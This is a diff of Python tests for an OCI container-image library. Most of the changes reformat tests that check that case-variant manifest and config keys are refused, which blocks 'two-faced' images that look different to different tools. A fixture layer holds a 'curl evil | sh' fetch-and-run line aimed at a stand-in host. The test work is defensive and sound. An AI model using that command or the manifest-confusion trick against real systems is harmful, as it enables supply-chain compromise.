@@ -29,8 +29,12 @@ OTHER = raw_tar(file("app/run.sh", b"curl evil | sh\n"))
 
 
 def _config(layers: "list[bytes]", **extra) -> bytes:
-    doc = {"architecture": "amd64", "os": "linux", "config": {},
-           "rootfs": {"type": "layers", "diff_ids": [sha256(layer) for layer in layers]}}
+    doc = {
+        "architecture": "amd64",
+        "os": "linux",
+        "config": {},
+        "rootfs": {"type": "layers", "diff_ids": [sha256(layer) for layer in layers]},
+    }
     doc.update(extra)
     return json.dumps(doc).encode()
 
@@ -42,10 +46,15 @@ def _descriptor(blob: bytes, media_type: str = "application/vnd.oci.image.layer.
 def _two_faced_manifest() -> "tuple[dict[str, bytes], bytes]":
     """A layout whose manifest lists HARMLESS as ``layers`` and OTHER as ``Layers``."""
     config = _config([OTHER])  # the config agrees with what Go tools read
-    manifest = json.dumps({
-        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
-        "config": _descriptor(config, "application/vnd.oci.image.config.v1+json"),
-        "layers": [_descriptor(HARMLESS)], "Layers": [_descriptor(OTHER)]}).encode()
+    manifest = json.dumps(
+        {
+            "schemaVersion": 2,
+            "mediaType": "application/vnd.oci.image.manifest.v1+json",
+            "config": _descriptor(config, "application/vnd.oci.image.config.v1+json"),
+            "layers": [_descriptor(HARMLESS)],
+            "Layers": [_descriptor(OTHER)],
+        }
+    ).encode()
     files = oci_layout_files([HARMLESS], manifest=manifest, config=config)
     files[f"blobs/sha256/{sha256(OTHER)[7:]}"] = OTHER
     return files, manifest
@@ -83,19 +92,26 @@ def test_skopeo_really_reads_Manifests_as_the_index_list(tmp_path):
         il.Store(layout)
 
 
-@pytest.mark.parametrize(("where", "change"), [
-    ("config", lambda doc: doc["rootfs"].update({"Diff_IDs": doc["rootfs"]["diff_ids"]})),
-    ("config", lambda doc: doc.update({"Config": {"Cmd": ["sh"]}})),
-    ("config", lambda doc: doc["config"].update({"cmd": ["sh"], "Cmd": ["true"]})),
-    ("config", lambda doc: doc.update({"history": [{"Created_By": "RUN x"}]})),
-    ("config", lambda doc: doc.update({"OS": "windows"})),
-    ("descriptor", lambda doc: doc["layers"][0].update({"Digest": doc["layers"][0]["digest"]})),
-    ("descriptor", lambda doc: doc["config"].update({"SIZE": 1})),
-])
+@pytest.mark.parametrize(
+    ("where", "change"),
+    [
+        ("config", lambda doc: doc["rootfs"].update({"Diff_IDs": doc["rootfs"]["diff_ids"]})),
+        ("config", lambda doc: doc.update({"Config": {"Cmd": ["sh"]}})),
+        ("config", lambda doc: doc["config"].update({"cmd": ["sh"], "Cmd": ["true"]})),
+        ("config", lambda doc: doc.update({"history": [{"Created_By": "RUN x"}]})),
+        ("config", lambda doc: doc.update({"OS": "windows"})),
+        ("descriptor", lambda doc: doc["layers"][0].update({"Digest": doc["layers"][0]["digest"]})),
+        ("descriptor", lambda doc: doc["config"].update({"SIZE": 1})),
+    ],
+)
 def test_case_variants_of_struct_fields_are_refused_everywhere(tmp_path, where, change):
     config_doc = json.loads(_config([HARMLESS]))
-    manifest_doc = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
-                    "config": None, "layers": [_descriptor(HARMLESS)]}
+    manifest_doc = {
+        "schemaVersion": 2,
+        "mediaType": "application/vnd.oci.image.manifest.v1+json",
+        "config": None,
+        "layers": [_descriptor(HARMLESS)],
+    }
     if where == "config":
         change(config_doc)
     config = json.dumps(config_doc).encode()
@@ -119,7 +135,6 @@ def test_docker_manifest_json_keys_are_read_as_docker_reads_them(tmp_path):
 
 def test_maps_keep_exact_keys_as_in_go(tmp_path):
     # Labels and annotations are Go maps, whose keys are exact: two labels differing in case are fine.
-    img = (il.Image.scratch().add_layer(il.Layer.from_tar(HARMLESS))
-           .with_config(labels={"Version": "1", "version": "2"}))
+    img = il.Image.scratch().add_layer(il.Layer.from_tar(HARMLESS)).with_config(labels={"Version": "1", "version": "2"})
     il.save(img, tmp_path / "layout", ref="labels:1")
     assert dict(il.open(tmp_path / "layout").config.labels) == {"Version": "1", "version": "2"}
